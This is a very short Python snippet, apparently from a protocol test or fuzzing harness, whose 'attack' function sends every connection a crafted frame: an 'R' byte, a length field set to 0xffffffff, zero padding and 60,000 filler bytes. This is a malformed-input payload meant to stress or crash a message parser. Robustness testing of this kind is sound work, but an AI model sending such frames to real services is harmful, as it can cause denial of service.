# include: frames.py

import time

def attack(inputs):
    write_to_all(b"R" + b"\xff" * 4 + bytes(28) + b"x" * 60000)
    time.sleep(2)
